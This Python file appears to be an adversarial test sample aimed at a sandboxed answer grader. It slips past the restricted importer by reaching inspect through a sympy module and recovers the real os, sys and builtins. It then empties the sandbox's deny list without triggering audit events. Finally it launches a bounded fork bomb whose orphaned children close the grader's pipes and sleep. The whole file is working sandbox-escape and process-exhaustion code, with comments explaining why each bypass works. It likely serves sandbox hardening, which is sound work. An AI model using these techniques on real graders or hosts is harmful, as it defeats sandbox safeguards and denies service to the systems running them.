"""effect: exhaust-processes
tries: empty the deny list, then a bounded fork tree (7 generations of doubling: 127 extra processes) whose members sleep 300 s and are orphaned when the answer ends.

A classic fork bomb, bounded.
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

first_pid = [os_.getpid()]


def work():
    fork = members(os_)["fork"]
    for _ in range(7):
        fork()
    if os_.getpid() != first_pid[0]:
        os_.setsid()
        os_.closerange(0, 64)  # the sandbox's pipes: the grader must not wait for us
        B["_" + "_import_" + "_"]("time").sleep(300)
        members(os_)["_exit"](0)


# module globals of the sandbox are plain attributes: setting them raises no audit event. An empty
# _DENY_PREFIXES lets os.system, os.kill, sockets, fork and ctypes through the hook.
sbx = members(sys_)["modules"]["lagrade.answer.jail.child"]
sbx._DENY_PREFIXES = ()
work()
